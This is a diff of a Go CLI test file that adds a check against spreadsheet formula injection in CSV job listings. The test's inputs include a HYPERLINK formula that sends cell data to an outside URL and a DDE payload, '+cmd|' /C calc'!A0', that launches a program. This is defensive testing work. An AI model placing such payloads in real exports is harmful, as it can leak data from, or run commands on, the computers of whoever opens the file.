@@ -2,11 +2,13 @@ package cli_test
 
 import (
 	"context"
+	"encoding/csv"
 	"io"
 	"math"
 	"net/url"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -212,6 +214,33 @@ func TestWordsOfOthers(t *testing.T) {
 		harmless(args, out, errs)
 		if strings.Contains(args[0], "list") && !strings.Contains(out, "failed") {
 			t.Errorf("grid %s: %s%s", strings.Join(args, " "), out, errs)
+		}
+	}
+}
+
+// TestFormulasOfOthers: what a job is called, or is said of it, is no formula for whoever opens the CSV.
+func TestFormulasOfOthers(t *testing.T) {
+	t.Parallel()
+	evil := `=HYPERLINK("https://example.org/?"&A1)`
+	l := &liar{says: plugins.Status{State: plugins.Failed, Native: "failed", Reason: evil, Node: "@SUM(1)", ExitCode: glue.Some(-7)}}
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "j.jdl"), []byte(`JobName = "+cmd|' /C calc'!A0"; Executable = "/bin/true"; RetryCount = 0;`), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	atLiarIn(t, dir, l, "submit", "--wait", "j.jdl")
+	code, out, errs := atLiarIn(t, dir, l, "list", "-o", "csv")
+	if code != 0 || !strings.Contains(out, "'+cmd|") || !strings.Contains(out, "'=HYPERLINK") {
+		t.Fatalf("code %d\n%s%s", code, out, errs)
+	}
+	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range rows {
+		for _, cell := range row {
+			if _, err := strconv.ParseFloat(cell, 64); len(cell) > 1 && strings.ContainsAny(cell[:1], "=+-@") && err != nil {
+				t.Errorf("%q", cell)
+			}
 		}
 	}
 }
